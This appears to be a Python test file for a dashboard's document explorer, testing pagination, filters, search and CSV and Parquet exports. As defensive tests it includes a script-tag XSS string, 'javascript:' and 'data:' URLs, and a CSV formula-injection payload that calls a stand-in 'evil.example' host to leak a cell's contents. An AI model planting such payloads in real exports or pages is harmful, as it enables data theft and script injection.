"""Explore: loading, search, table and exports."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pandas as pd
import pytest

from dashboard.data import document_filters, explore
from dashboard.data.document_filters import NO_FILTERS, DocumentFilters, with_attributes
from dashboard.data.errors import ServiceError
from dashboard.data.explore import (
    all_of,
    attributes,
    csv_of,
    empty_message,
    engine_scores,
    fields,
    first,
    matches,
    older,
    parquet_of,
    table,
    web_address,
)
from dashboard.data.filters import Filters
from echostream.domain.codec import scored_to_wire
from echostream_client.api import ApiFailed
from tests.builders import scored

NOW = datetime(2026, 5, 21, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script> \u202eback \u200d" + "x" * 10_000


class Api:
    """Documents, newest first, in pages of `limit`; a cursor is an index."""

    def __init__(self, number):
        self.documents = [
            scored_to_wire(scored(f"d{i}", text=f"number {i}")) for i in range(number)
        ]
        self.fails_at = None

    def query(self, limit, cursor=None, **filters):
        self.filters = filters
        at = int(cursor or 0)
        if self.fails_at is not None and at >= self.fails_at:
            raise ApiFailed(500, "oops", "HTTP 500: oops")
        end = at + limit
        rest = str(end) if end < len(self.documents) else None
        return {"documents": self.documents[at:end], "cursor": rest}


def test_documents_are_loaded_page_by_page(monkeypatch):
    """Each document once, in order, to the end or to the limit."""
    monkeypatch.setattr(explore, "MAX_LIMIT", 10)
    monkeypatch.setattr(explore, "MAX_DOCUMENTS", 30)
    api: Any = Api(25)
    steps = list(all_of(api, first(api, Filters(), NO_FILTERS, NOW)))
    assert [len(step.documents) for step in steps] == [20, 25]
    assert steps[-1].documents == api.documents
    assert not steps[-1].has_more
    assert not steps[-1].is_cut
    api = Api(45)
    [*_, last] = all_of(api, first(api, Filters(), NO_FILTERS, NOW))
    assert last.documents == api.documents[:30]
    assert (last.has_more, last.is_cut) == (False, True)


def test_filters_are_asked_of_the_api():
    """Channel, attribute and rating, beside the source and the sentiment."""
    api: Any = Api(1)
    chosen = DocumentFilters("r/kettles", ("a:b", "c"), "disagrees")
    first(api, Filters(source="reddit"), chosen, NOW)
    names = ("source", "channel", "attribute", "rating")
    assert [api.filters[n] for n in names] == ["reddit", "r/kettles", r"a\:b:c", "disagrees"]


def test_attributes_of_documents_are_offered(monkeypatch):
    """With those of documents before, as many as there is room for."""
    monkeypatch.setattr(document_filters, "MAX_NAMES", 2)
    monkeypatch.setattr(document_filters, "MAX_VALUES", 2)
    documents: list[dict[str, Any]] = [
        {"attributes": {"country": "DE"}},
        {"attributes": {"country": "FR", "app": "1"}},
        {"attributes": {"country": "IT", "other": "x"}},
        {"attributes": {}},
    ]
    known = with_attributes({}, documents[:1])
    assert known == {"country": ("DE",)}
    assert with_attributes(known, documents) == {"country": ("DE", "FR"), "app": ("1",)}


def test_ratings_and_attributes_are_in_the_files(monkeypatch):
    """A column for each of the most frequent attributes, one of JSON for the others."""
    monkeypatch.setattr(explore, "ATTRIBUTE_COLUMNS", 1)
    documents = [
        scored_to_wire(scored("a", rating=4.5, attributes={"country": "=DE"})),
        scored_to_wire(scored("b", attributes={"country": "FR", "caf\u00e9": '"x"'})),
        scored_to_wire(scored("c")),
    ]
    rows = list(csv.DictReader(io.StringIO(csv_of(documents).decode(), newline="")))
    assert [row["rating"] for row in rows] == ["4.5", "", ""]
    assert [row["attributes.country"] for row in rows] == ["'=DE", "FR", ""]
    assert [row["attributes"] for row in rows] == ["", '{"caf\u00e9":"\\"x\\""}', ""]
    frame = pd.read_parquet(io.BytesIO(parquet_of(documents)))
    assert frame["rating"].dtype == float
    assert list(frame["attributes.country"][:2]) == ["=DE", "FR"]
    assert "attributes" not in pd.read_csv(io.BytesIO(csv_of(documents[2:]))).columns


def test_document_has_its_rating_and_attributes():
    """A name that is that of a field is no problem."""
    document = scored_to_wire(scored("a", rating=4.0, attributes={"Source": "x"}))
    values = fields(document).set_index("Field")["Value"]
    assert (values["Rating"], values["Source"]) == ("4 of 5 stars", "forum")
    assert attributes(document).to_numpy().tolist() == [["Source", "x"]]
    assert "Rating" not in set(fields(scored_to_wire(scored("b")))["Field"])
    assert table([document])["rating"].tolist() == [4.0]


def test_failed_page_keeps_the_loaded_documents(monkeypatch):
    """`older` raises, and returns the next page when it is called again."""
    monkeypatch.setattr(explore, "MAX_LIMIT", 10)
    api: Any = Api(25)
    loaded = first(api, Filters(), NO_FILTERS, NOW)
    api.fails_at = 10
    with pytest.raises(ServiceError, match="HTTP 500"):
        older(api, loaded)
    api.fails_at = None
    assert older(api, loaded).documents == api.documents[:20]


def test_search_covers_text_author_source_and_channel():
    """In any case; an empty term matches every document."""
    documents = Api(12).documents
    assert len(matches(documents, " NUMBER 1 ")) == 3
    assert matches([{**documents[0], "channel": "r/Kettles"}], "kettle") != []
    assert matches(documents, "FORUM") == documents
    assert matches(documents, "ANN") == documents
    assert matches(documents, "") == documents
    assert matches([{**documents[0], "author": None}], "ann") == []


def test_empty_message_names_the_reason():
    """No match of the search, no match of the filters, or no documents at all."""
    api: Any = Api(3)
    loaded = first(api, Filters(), NO_FILTERS, NOW)
    assert empty_message(loaded, 3, "", False) == ""
    assert "None of the 3 loaded documents" in empty_message(loaded, 0, "zebra", False)
    api = Api(0)
    empty = first(api, Filters(), NO_FILTERS, NOW)
    assert "Choose a longer period" in empty_message(empty, 0, "", True)
    assert "send documents" in empty_message(empty, 0, "", False)


def test_hostile_text_is_exact_in_exports():
    """The table shortens it; the open document, CSV and Parquet have all of it."""
    other = {**scored_to_wire(scored("x")), "engine": "comprehend", "engine_version": "v"}
    document = {**scored_to_wire(scored("d", text=HOSTILE)), "others": [other]}
    assert len(table([document])["text"][0]) < 310
    assert "Neutral" in list(fields(document)["Value"])
    assert document["text"] == HOSTILE
    assert list(engine_scores(document)["Engine"]) == ["vader", "comprehend"]
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == HOSTILE
    assert (row["scores_neutral"], row["comprehend_sentiment"]) == ("1.0", "NEUTRAL")
    frame = pd.read_parquet(io.BytesIO(parquet_of([document])))
    assert frame["text"][0] == HOSTILE
    assert str(frame["created_at"].dtype).startswith("datetime64")
    assert frame["scores_neutral"][0] == 1.0


@pytest.mark.parametrize(
    "url", [None, "", "javascript:alert(1)", "data:text/html,x", "//example.org", "http://[", "x"]
)
def test_unsafe_addresses_are_not_linked(url):
    """Only absolute http and https addresses are links."""
    assert web_address(url) is None


def test_web_addresses_are_linked_unchanged():
    """The address is not rewritten."""
    assert web_address("https://example.org/?q=<b>") == "https://example.org/?q=<b>"


def test_csv_escapes_formulas():
    """A text that begins like a formula gets an apostrophe; numbers stay numbers."""
    document = {
        **scored_to_wire(scored("d")),
        "text": '=HYPERLINK("http://evil.example/?"&A2)',
        "author": "@SUM(1)",
        "compound": -0.5,
    }
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
    assert row["author"] == "'@SUM(1)"
    assert row["compound"] == "-0.5"
